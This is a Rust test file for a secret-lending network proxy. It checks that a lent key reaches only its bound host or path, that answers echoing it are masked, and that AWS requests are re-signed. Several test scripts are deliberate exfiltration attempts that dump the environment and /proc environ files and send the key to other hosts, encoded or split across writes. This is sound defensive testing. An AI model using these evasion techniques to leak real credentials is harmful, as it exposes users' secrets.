//! Secrets that a command uses and never has.

use crate::world::{EVERYONE, PUBLIC, World};

const SECRET: &str = "sk-Qm9y/ZWRvbUlz+QVZpcnR1ZTEy~MzQ1Njc4XyZ0";
const ESCAPED: &str = "sk-Qm9y%2FZWRvbUlz%2BQVZpcnR1ZTEy~MzQ1Njc4XyZ0";
const LENT: [&str; 2] = ["--secret", "MY_KEY=site.test"];

fn run(world: &World, options: &[&str], script: &str) -> crate::world::Said {
    let options: Vec<&str> = LENT.iter().chain(options).copied().collect();
    world.run_having(&[("MY_KEY", SECRET)], &options, script)
}

#[test]
fn egr_13_the_secret_reaches_its_host_and_is_nowhere_inside() {
    for who in EVERYONE {
        let world = World::new(who);
        let server = world.https(PUBLIC, &["site.test"]);
        let script = "
            echo \"word $MY_KEY\"
            curl -fsS -H \"x-key: $MY_KEY\" https://site.test/header >/dev/null
            curl -fsS -H \"Authorization: Bearer $MY_KEY\" https://site.test/bearer >/dev/null
            curl -fsS -u \"user:$MY_KEY\" https://site.test/basic >/dev/null
            curl -fsS \"https://site.test/query?key=$MY_KEY\" >/dev/null
            curl -fsS -d \"key=$MY_KEY\" https://site.test/form >/dev/null
            curl -fsS -H 'Content-Type: application/json' -d \"{\\\"key\\\":\\\"$MY_KEY\\\"}\" https://site.test/json >/dev/null
            env > all; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline >> all 2>/dev/null || true
            find / -xdev -type f -size -200k -newer /proc/1/stat 2>/dev/null | head -200 | xargs cat >> all 2>/dev/null || true";
        let said = run(&world, &[], script).ok();
        let word = said.out.strip_prefix("word ").unwrap().trim();
        assert!(word.starts_with("sk-") && word.len() == SECRET.len() && word != SECRET, "{word}");
        let seen = server.seen();
        assert_eq!(seen.len(), 6, "{who:?} {:?} {}", server.asked(), said.err);
        let basic = base64::Engine::encode(&base64::prelude::BASE64_STANDARD, format!("user:{SECRET}"));
        for request in &seen {
            let all = format!("{}{}", request.head, String::from_utf8_lossy(&request.body));
            assert!([SECRET, ESCAPED, &basic].iter().any(|form| all.contains(form)), "{all}");
            assert!(!all.contains(word), "{all}");
        }
        let inside = std::fs::read(world.project().join("all")).unwrap();
        let inside = String::from_utf8_lossy(&inside);
        assert!(inside.contains(word) && !inside.contains(SECRET));
        let record = format!("{:?}", world.entries("network.connect"));
        assert!(!record.contains(SECRET) && !record.contains(word), "{record}");
    }
}

#[test]
fn egr_13_content_of_each_kind_has_the_secret_as_its_reader_reads_it() {
    const QUOTED: &str = r#"pa"ss\word&of=many/signs+and~such"#;
    for who in EVERYONE {
        let world = World::new(who);
        let server = world.https(PUBLIC, &["site.test"]);
        let script = "
            printf 'key = %s\\n' \"$MY_KEY\" > file
            say() { curl -fsS -o /dev/null \"$@\"; }
            say -H 'Content-Type: text/plain' --data-binary @file https://site.test/text
            say -H 'Content-Type: application/octet-stream' --data-binary @file https://site.test/bytes
            say -F \"key=$MY_KEY\" -F 'file=@file' https://site.test/parts
            say -H 'Content-Type:' --data-binary @file https://site.test/unnamed
            say -H 'Content-Type: application/json' -d \"{\\\"key\\\":\\\"$MY_KEY\\\"}\" https://site.test/json
            say -H 'Content-Type: application/vnd.api+json' -H 'Transfer-Encoding: chunked' -d \"{\\\"key\\\":\\\"$MY_KEY\\\"}\" https://site.test/json
            say -H 'Content-Type: text/plain;charset=UTF-8' -d \"{\\\"key\\\":\\\"$MY_KEY\\\"}\" https://site.test/json
            say -d \"key=$MY_KEY\" https://site.test/form";
        let said = world.run_having(&[("MY_KEY", QUOTED)], &LENT, script).ok();
        let seen = server.seen();
        assert_eq!(seen.len(), 8, "{who:?} {:?} {}", server.asked(), said.err);
        for request in seen {
            let body = String::from_utf8(request.body.clone()).unwrap();
            let times = match request.path() {
                "/json" => {
                    let json = body.lines().find(|line| line.starts_with('{')).unwrap();
                    let parsed: serde_json::Value = serde_json::from_str(json).unwrap();
                    usize::from(parsed["key"] == QUOTED)
                }
                "/form" => usize::from(body == "key=pa%22ss%5Cword%26of%3Dmany%2Fsigns%2Band~such"),
                "/parts" => body.matches(QUOTED).count() - 1,
                _ => usize::from(body == format!("key = {QUOTED}\n")),
            };
            assert_eq!(times, 1, "{who:?} {} {body}", request.path());
        }
    }
}

#[test]
fn adv_c02_a_word_that_is_sent_to_another_host_is_refused_in_every_writing() {
    for who in EVERYONE {
        let world = World::new(who);
        let server = world.https(PUBLIC, &["site.test", "registry.npmjs.org"]);
        let plain = world.http(PUBLIC, 80);
        let other = "https://registry.npmjs.org/x";
        let script = format!(
            "code() {{ curl -sS -o /dev/null -w '%{{http_code}}\\n' \"$@\"; }}
             code {other}
             code -H \"x-key: $MY_KEY\" {other}
             code -u \"user:$MY_KEY\" {other}
             code \"{other}?key=$MY_KEY\"
             code \"{other}/$MY_KEY\"
             code -H \"x-key: $(printf %s $MY_KEY | base64 -w0)\" {other}
             code -H \"x-key: $(printf %s $MY_KEY | od -An -tx1 | tr -d ' \\n')\" {other}
             code -H \"x-key: $(printf %s $MY_KEY | rev)\" {other}
             code -H \"x-key: $(printf %s $MY_KEY | base64 -w0)\" https://site.test/disguised
             code -H \"x-key: $MY_KEY\" http://site.test/"
        );
        let said = run(&world, &["--preset", "npm-install", "--allow", "site.test:80"], &script);
        assert_eq!(said.out.lines().next(), Some("200"), "{} {}", said.out, said.err);
        assert_eq!(said.out.lines().skip(1).collect::<Vec<_>>(), ["403"; 9], "{}", said.err);
        assert_eq!((server.asked().len(), plain.asked().len()), (1, 0), "{who:?}");
        // The first of each kind by itself, the rest counted.
        let times = |entry: &ledger::Entry| {
            entry.detail.get("times").map_or(1, |times| times.parse::<u32>().unwrap() - 1)
        };
        assert_eq!(world.entries("network.finding").iter().map(times).sum::<u32>(), 9);
        assert!(said.err.contains("the secret `MY_KEY`") && !said.err.contains(SECRET), "{}", said.err);
    }
}

#[test]
fn adv_c02_a_word_in_content_that_comes_in_pieces_is_found() {
    for who in EVERYONE {
        let world = World::new(who);
        let server = world.https(PUBLIC, &["github.com"]);
        let script = "python3 - <<'X'
import http.client, os, sys
word = os.environ['MY_KEY']
print('word', word, file=sys.stderr)
def parts():
    yield b'x' * 300000
    for letter in word: yield letter.encode()
    yield b'y' * 10
c = http.client.HTTPSConnection('github.com')
try:
    c.request('POST', '/x', body=parts(), encode_chunked=True, headers={'Transfer-Encoding': 'chunked'})
    print(c.getresponse().status)
except (OSError, http.client.HTTPException) as error: print('broken', type(error).__name__)
X";
        let lent = [("MY_KEY", SECRET), ("OTHER", "another secret of some length, 12345678901234567890")];
        let options = ["--secret", "MY_KEY=site.test", "--secret", "OTHER=github.com"];
        let said = world.run_having(&lent, &options, script);
        assert!(!said.out.contains("200"), "{} {}", said.out, said.err);
        let word = said.err.lines().find_map(|line| line.strip_prefix("word ")).unwrap();
        for request in server.seen() {
            let body: String =
                String::from_utf8_lossy(&request.body).split("\r\n").skip(1).step_by(2).collect();
            assert!(!body.contains(word) && body.contains("xxx"), "{}", body.trim_start_matches('x'));
        }
        assert_eq!(world.entries("network.finding").len(), 1, "{}", said.err);
    }
}

#[test]
fn adv_c03_an_answer_that_gives_the_secret_back_is_masked() {
    for who in EVERYONE {
        let world = World::new(who);
        let _server = world.https(PUBLIC, &["site.test"]);
        let script = "
            curl -fsS -H \"x-key: $MY_KEY\" https://site.test/header
            curl -fsS \"https://site.test/query?key=$MY_KEY\"
            curl -fsS -d \"key=$MY_KEY\" https://site.test/form
            curl -fsS --compressed -H 'Content-Type: application/json' -d \"{\\\"key\\\":\\\"$MY_KEY\\\"}\" https://site.test/json
            curl -fsS -H \"x-key: $MY_KEY\" -H 'Range: bytes=0-9' https://site.test/range";
        let said = run(&world, &[], script).ok();
        assert!(!said.out.contains(SECRET) && !said.out.contains(ESCAPED), "{}", said.out);
        assert_eq!(said.out.matches(&"*".repeat(40)).count(), 5, "{}", said.out);
        assert!(!said.out.contains("Range:") && !said.out.contains("gzip"), "{}", said.out);
        assert_eq!(world.entries("network.finding").len(), 5);
        said.tells("the answer carried the secret `MY_KEY`");
    }
}

/// A server of one file that takes every way to ask for a part of it.
fn in_parts(content: &'static [u8]) -> crate::world::Answers {
    std::sync::Arc::new(move |request: &crate::world::Request| {
        let asked = ["x-ms-range", "range", "request-range"].into_iter().find_map(|name| request.field(name));
        let part = asked.and_then(|asked| {
            let (first, last) = asked.strip_prefix("bytes=")?.split_once('-')?;
            let last = last.parse().unwrap_or(content.len() - 1).min(content.len() - 1);
            Some((first.parse::<usize>().ok()?, last))
        });
        match part {
            Some((first, last)) if first <= last => {
                let told = format!("Content-Range: bytes {first}-{last}/{}\r\n", content.len());
                crate::world::answer("206 Partial Content", &told, &content[first..=last])
            }
            _ => crate::world::answer("200 OK", "Accept-Ranges: bytes\r\n", content),
        }
    })
}

#[test]
fn egr_13_a_download_goes_on_where_it_was_cut_where_no_secret_could_be() {
    let rules = "[[rule]]\nhost = \"other.test\"\nmethods = [\"GET\"]\npaths = [\"/**\"]\n";
    for who in EVERYONE {
        let world = World::new(who);
        let content: &'static [u8] =
            (0..100_000_u32).map(|at| at.to_le_bytes()[1]).collect::<Vec<u8>>().leak();
        let server = world.answering(443, &["other.test", "site.test"], in_parts(content));
        world.file("rules.toml", rules);
        let script = "curl -fsS -r 5-9 -o part -w '%{http_code}\\n' https://other.test/file
            curl -fsS -o whole https://other.test/file; head -c 60000 whole > cut
            curl -fsS -C - -o cut -w '%{http_code} %{size_download}\\n' https://other.test/file; cmp whole cut";
        let said = run(&world, &["--rules", "rules.toml"], script).ok();
        assert_eq!(said.out, "206\n206 40000\n", "{who:?} {}", said.err);
        let file = |name: &str| std::fs::read(world.project().join(name)).unwrap();
        assert!(file("part") == content[5..=9] && file("cut") == content, "{who:?}");
        // It was looked into all the same.
        let entries = world.entries("network.connect");
        let is_seen = |entry: &ledger::Entry| entry.detail.get("path").is_some_and(|path| path == "/file");
        assert_eq!((entries.iter().filter(|entry| is_seen(entry)).count(), server.seen().len()), (3, 3));
    }
}

#[test]
fn adv_c03_a_secret_that_was_kept_does_not_come_back_in_parts() {
    for who in EVERYONE {
        let world = World::new(who);
        let content = format!("kept: {SECRET}\n").leak().as_bytes();
        let server = world.answering(443, &["site.test"], in_parts(content));
        let script = "for name in Range Request-Range X-Ms-Range; do
              for at in $(seq 6 5 47); do curl -fsS -w ' %{http_code}\\n' -H \"$name: bytes=$at-$at\" https://site.test/kept; done
              curl -fsS -w ' %{http_code}\\n' -H \"$name: bytes=0-20\" https://site.test/kept
              curl -fsS -w ' %{http_code}\\n' -H 'If-Range: \"x\"' -H \"$name: bytes=21-\" https://site.test/kept
            done";
        let said = run(&world, &[], script).ok();
        let whole = format!("kept: {}\n 200\n", "*".repeat(SECRET.len()));
        assert_eq!(said.out, whole.repeat(3 * 11), "{who:?} {}", said.err);
        assert!(server.seen().iter().all(|request| !request.head.to_ascii_lowercase().contains("range")));
    }
}

#[test]
fn adv_c03_an_answer_that_escapes_a_few_signs_of_the_secret_is_masked_too() {
    for who in EVERYONE {
        let world = World::new(who);
        // As writers of JSON and of forms do that escape what others leave as it is.
        let escapes = |request: &crate::world::Request| {
            let key = request.field("x-key").unwrap_or_default();
            let told = match request.path() {
                "/json" => key.replace('/', "\\u002f").replace('+', "\\u002B"),
                "/form" => key.replace('~', "%7E").replace('/', "%2f"),
                _ => key.to_owned(),
            };
            crate::world::answer("200 OK", &format!("x-told: {told}\r\n"), format!("<{told}>").as_bytes())
        };
        let _server = world.answering(443, &["site.test"], std::sync::Arc::new(escapes));
        let script = "for kind in plain json form; do curl -fsSi -H \"x-key: $MY_KEY\" https://site.test/$kind; echo; done";
        let said = run(&world, &[], script).ok();
        let bodies: Vec<&str> = said.out.lines().filter(|line| line.starts_with('<')).collect();
        assert_eq!(bodies.len(), 3, "{}", said.out);
        for line in bodies {
            assert!(line.trim_matches(['<', '>']).chars().all(|sign| sign == '*'), "{who:?} {}", said.out);
        }
        assert!(!said.out.contains("Qm9y") && !said.out.contains("MzQ1Njc4"), "{who:?} {}", said.out);
    }
}

#[test]
fn adv_c04_a_secret_with_a_line_end_is_not_lent() {
    for who in EVERYONE {
        let world = World::new(who);
        let said = world.run_having(&[("MY_KEY", "a value\r\nwith: a header")], &LENT, "true");
        assert_eq!(said.code, Some(125));
        let said = said.tells("cannot lend `MY_KEY`, because its value is too short, or has a line end");
        assert!(!said.err.contains("with: a header"));
        world.run_having(&[], &LENT, "true").tells("it is not set here");
        world
            .run_having(&[("MY_KEY", SECRET)], &["--secret", "MY_KEY"], "true")
            .tells("nothing says where it goes");
    }
}

#[test]
fn egr_13_a_secret_that_is_bound_to_paths_goes_to_these_only() {
    for who in EVERYONE {
        let world = World::new(who);
        let server = world.https(PUBLIC, &["site.test"]);
        let lent = ["--secret", "MY_KEY=site.test/v1/**"];
        let script = "code() { curl -sS -o /dev/null -w '%{http_code}\\n' -H \"x-key: $MY_KEY\" \"$@\"; }
            code --http1.1 https://site.test/v1/models
            code --path-as-is https://site.test/v1/../v2
            code --http1.1 https://site.test/v2/models
            code --http2 https://site.test/v2/models
            code \"https://site.test/v2?x=/v1/models\"
            curl -sS -o /dev/null -w '%{http_code}\\n' -d \"key=$MY_KEY\" https://site.test/v2/form
            curl -sS -o /dev/null -w '%{http_code}\\n' https://site.test/v2/without
            curl -sS -o /dev/null -w '%{http_code}\\n' --http2 -d \"key=$MY_KEY\" https://site.test/v1/form";
        let said = world.run_having(&[("MY_KEY", SECRET)], &lent, script);
        let codes: Vec<&str> = said.out.lines().collect();
        assert_eq!((codes[0], codes[6], codes[7]), ("200", "200", "200"), "{who:?} {codes:?} {}", said.err);
        assert!(["400", "403"].contains(&codes[1]), "{codes:?}");
        assert_eq!(codes[2..6], ["403"; 4], "{who:?} {}", said.err);
        let asked = server.asked();
        let asked: Vec<&str> = asked.iter().map(|line| line.split(' ').nth(1).unwrap()).collect();
        assert_eq!(asked, ["/v1/models", "/v2/without", "/v1/form"], "{who:?}");
        assert!(!world.entries("network.finding").is_empty(), "{}", said.err);
        said.tells("bound to other hosts or paths");
        let wrong = world.run_having(&[("MY_KEY", SECRET)], &["--secret", "MY_KEY=site.test/a/**/b"], "true");
        assert_eq!(wrong.code, Some(125), "{}", wrong.err);
        wrong.tells("cannot lend `MY_KEY` to `");
    }
}

#[test]
fn adv_c02_a_word_on_its_way_to_another_host_is_found_wherever_it_stands() {
    let rules =
        "[[rule]]\nhost = \"other.test\"\nmethods = [\"GET\", \"POST\", \"PUT\"]\npaths = [\"/**\"]\n";
    for who in EVERYONE {
        let world = World::new(who);
        let server = world.https(PUBLIC, &["site.test", "other.test"]);
        world.file("rules.toml", rules);
        let script = "python3 - <<'X'
import base64, json, os, socket, ssl, time, urllib.parse
word = os.environ['MY_KEY']
def send(*parts, pause=0.05):
    s = ssl.create_default_context().wrap_socket(socket.create_connection(('other.test', 443), 5), server_hostname='other.test')
    s.settimeout(5)
    try:
        for part in parts: s.sendall(part.encode() if isinstance(part, str) else part); time.sleep(pause if len(parts) > 1 else 0)
        return s.recv(12)[9:].decode() or 'closed'
    except OSError: return 'closed'
def get(path, *fields): return send('GET %s HTTP/1.1\\r\\nHost: other.test\\r\\n%sConnection: close\\r\\n\\r\\n' % (path, ''.join(f + '\\r\\n' for f in fields)))
def post(body, *fields):
    body = body.encode() if isinstance(body, str) else body
    head = 'POST /x HTTP/1.1\\r\\nHost: other.test\\r\\n%sContent-Length: %d\\r\\nConnection: close\\r\\n\\r\\n'
    return send((head % (''.join(f + '\\r\\n' for f in fields), len(body))).encode() + body)
each = ''.join('%%%02x' % ord(c) for c in word)
some = word[:9] + '%%%02X' % ord(word[9]) + word[10:]
half = len(word) // 2
head = 'GET /x HTTP/1.1\\r\\nHost: other.test\\r\\n'
multi = '--b\\r\\nContent-Disposition: form-data; name=\"f\"; filename=\"x\"\\r\\n\\r\\n' + word + '\\r\\n--b--\\r\\n'
chunked = 'POST /x HTTP/1.1\\r\\nHost: other.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n'
cases = {
 'path': get('/' + word), 'path, escaped': get('/' + each), 'path, partly escaped': get('/a/' + some),
 'query': get('/?k=' + word), 'query, escaped': get('/?k=' + each), 'name of a query': get('/?' + word + '=1'), 'query, partly escaped': get('/?k=' + some),
 'header': get('/', 'x-key: ' + word), 'header, within a word': get('/', 'x: a' + word + 'b'),
 'cookie': get('/', 'Cookie: a=1; k=' + word), 'referer': get('/', 'Referer: https://other.test/?' + each),
 'bearer': get('/', 'Authorization: Bearer ' + word), 'basic': get('/', 'Authorization: Basic ' + base64.b64encode(('u:' + word).encode()).decode()),
 'basic, as the user': get('/', 'Authorization: Basic ' + base64.b64encode((word + ':').encode()).decode()),
 'header, base 64 behind other bytes': get('/', 'x: ' + base64.b64encode(b'a' + word.encode()).decode()), 'header, base 64 behind two': get('/', 'x: ' + base64.b64encode(b'ab' + word.encode()).decode()),
 'header, base 16': get('/', 'x: ' + word.encode().hex().upper()),
 'json': post(json.dumps({'a': [{'k': word}]}), 'Content-Type: application/json'),
 'json, escaped': post('{\"k\":\"' + ''.join('\\\\u%04x' % ord(c) for c in word) + '\"}', 'Content-Type: application/json'),
 'form': post('a=1&k=' + urllib.parse.quote(word, safe=''), 'Content-Type: application/x-www-form-urlencoded'),
 'form, escaped': post('k=' + each, 'Content-Type: application/x-www-form-urlencoded'),
 'a file of a form': post(multi, 'Content-Type: multipart/form-data; boundary=b'),
 'bytes': post(b'\\0\\1' + word.encode() + b'\\xff', 'Content-Type: application/octet-stream'),
 'base 64': post(base64.b64encode(b'{\"k\":\"' + word.encode() + b'\"}')),
 'backwards': post(word[::-1]),
 'head in pieces': send(head + 'x: ' + word[:half], word[half:] + '\\r\\n\\r\\n'),
 'head, letter by letter': send(head + 'x: ', *word, '\\r\\n\\r\\n', pause=0.002),
 'content in pieces': send('POST /x HTTP/1.1\\r\\nHost: other.test\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(word), word[:half], word[half:]),
}
print('control', get('/plain'), post('plain'))
# What has begun to go is broken off; fields behind content are looked at too.
print(send(chunked, *['1\\r\\n' + c + '\\r\\n' for c in word], '0\\r\\n\\r\\n', pause=0.002) in ('closed', '403'))
print(send(chunked, '1\\r\\na\\r\\n0\\r\\nx: ' + word + '\\r\\n\\r\\n'))
for name, code in cases.items():
    if code != '403': print(name, code)
print(len(cases)); open('word', 'w').write(word)
X";
        let said = run(&world, &["--rules", "rules.toml"], script).ok();
        assert_eq!(said.out, "control 200 200\nTrue\n403\n28\n", "{who:?} {}", said.err);
        let word = std::fs::read_to_string(world.project().join("word")).unwrap();
        for request in server.seen() {
            let all = format!("{}{}", request.head, String::from_utf8_lossy(&request.body));
            assert!(!all.contains(&word) && !all.contains(SECRET), "{who:?} {all}");
        }
    }
}

/// How AWS clients sign, written apart from the proxy: prints the request's headers, and the signature as the last one.
const SIGNER: &str = r#"
import hashlib, hmac, os, sys
def h(key, text): return hmac.new(key, text.encode(), hashlib.sha256).digest()
def signed(key_id, secret, method, host, path, query, body, at='20260115T101500Z', region='eu-west-1', service='s3'):
    digest = hashlib.sha256(body).hexdigest()
    fields = {'host': host, 'x-amz-content-sha256': digest, 'x-amz-date': at}
    names = ';'.join(sorted(fields))
    canonical = '\n'.join([method, path, query, ''.join('%s:%s\n' % (n, fields[n]) for n in sorted(fields)), names, digest])
    scope = '/'.join([at[:8], region, service, 'aws4_request'])
    text = '\n'.join(['AWS4-HMAC-SHA256', at, scope, hashlib.sha256(canonical.encode()).hexdigest()])
    key = ('AWS4' + secret).encode()
    for part in [at[:8], region, service, 'aws4_request']: key = h(key, part)
    signature = hmac.new(key, text.encode(), hashlib.sha256).hexdigest()
    fields['Authorization'] = 'AWS4-HMAC-SHA256 Credential=%s/%s, SignedHeaders=%s, Signature=%s' % (key_id, scope, names, signature)
    del fields['host']
    return fields
"#;

#[test]
fn egr_14_what_an_aws_client_signed_with_a_word_is_signed_with_the_key() {
    const KEY_ID: &str = "AKIAIOSFODNN7EXAMPLEX";
    const KEY: &str = "wJalrXUtnFEMI/K7MDENG+bPxRfiCYEXAMPLEKEY";
    for who in EVERYONE {
        let world = World::new(who);
        let server = world.https(PUBLIC, &["site.test"]);
        let script = format!(
            "python3 - <<'X'\n{SIGNER}
import urllib.request as u
key_id, word = os.environ['AWS_ACCESS_KEY_ID'], os.environ['AWS_SECRET_ACCESS_KEY']
for method, path, query, body in [('GET', '/b/a%20b', 'list=1&prefix=x', b''), ('PUT', '/b/c', '', b'some content' * 100)]:
    fields = signed(key_id, word, method, 'site.test', path, query, body)
    request = u.Request('https://site.test' + path + ('?' + query if query else ''), data=body or None, headers=fields, method=method)
    print(u.urlopen(request).status)
open('word', 'w').write(word)
X"
        );
        let had = [("AWS_ACCESS_KEY_ID", KEY_ID), ("AWS_SECRET_ACCESS_KEY", KEY)];
        let lent = ["--secret", "AWS_ACCESS_KEY_ID=site.test", "--secret", "AWS_SECRET_ACCESS_KEY=site.test"];
        let said = world.run_having(&had, &lent, &script).ok();
        assert_eq!(said.out, "200\n200\n", "{who:?} {}", said.err);
        // The same by the key itself, outside.
        let check = format!(
            "{SIGNER}
for method, path, query, body in [('GET', '/b/a%20b', 'list=1&prefix=x', b''), ('PUT', '/b/c', '', b'some content' * 100)]:
    print(signed('{KEY_ID}', '{KEY}', method, 'site.test', path, query, body)['Authorization'])"
        );
        let expected = std::process::Command::new("python3").args(["-c", &check]).output().unwrap();
        let expected = String::from_utf8(expected.stdout).unwrap();
        let came: Vec<String> = server
            .seen()
            .iter()
            .map(|request| request.field("authorization").unwrap_or_default().to_owned())
            .collect();
        assert_eq!(came, expected.lines().collect::<Vec<_>>(), "{who:?}");
        let word = std::fs::read_to_string(world.project().join("word")).unwrap();
        assert!(word != KEY && server.seen().iter().all(|request| !request.head.contains(KEY)));
        // What signs is not sent, wherever the word stands.
        for place in [
            "-H \"x-note: $AWS_SECRET_ACCESS_KEY\" https://site.test/b/e",
            "https://site.test/b?k=$AWS_SECRET_ACCESS_KEY",
            "-d k=$AWS_SECRET_ACCESS_KEY https://site.test/b/e",
        ] {
            let script = format!("curl -sS -o /dev/null -w '%{{http_code}}' {place}");
            let said = world.run_having(&had, &lent, &script).ok();
            assert_eq!((said.out.as_str(), server.seen().len()), ("403", 2), "{who:?} {place} {}", said.err);
        }
        // What is signed piece by piece cannot be signed again, and goes nowhere.
        let script = "curl -sS -o /dev/null -w '%{http_code}' -H \"Authorization: AWS4-HMAC-SHA256 Credential=$AWS_ACCESS_KEY_ID/20260115/eu-west-1/s3/aws4_request, SignedHeaders=host;x-amz-date, Signature=0\" -H 'x-amz-date: 20260115T101500Z' -H 'x-amz-content-sha256: STREAMING-AWS4-HMAC-SHA256-PAYLOAD' -X PUT -d x https://site.test/b/d";
        let said = world.run_having(&had, &lent, script).ok();
        assert_eq!((said.out.as_str(), server.seen().len()), ("403", 2), "{who:?} {}", said.err);
    }
}

#[test]
fn egr_13_a_host_that_is_allowed_besides_is_looked_into_for_what_is_lent() {
    let world = World::new(EVERYONE[0]);
    let server = world.https(PUBLIC, &["site.test"]);
    let script = "curl -fsS -H \"x-key: $MY_KEY\" https://site.test/ >/dev/null";
    run(&world, &["--allow", "site.test"], script).ok();
    assert_eq!(server.seen()[0].field("x-key"), Some(SECRET));
    world.file("pass.toml", "[[rule]]\nhost = \"site.test\"\naccess = \"pass\"\n");
    let said = run(&world, &["--rules", "pass.toml"], "true");
    assert_eq!(said.code, Some(125), "{}", said.err);
    said.tells("no secret can be put in there");
}
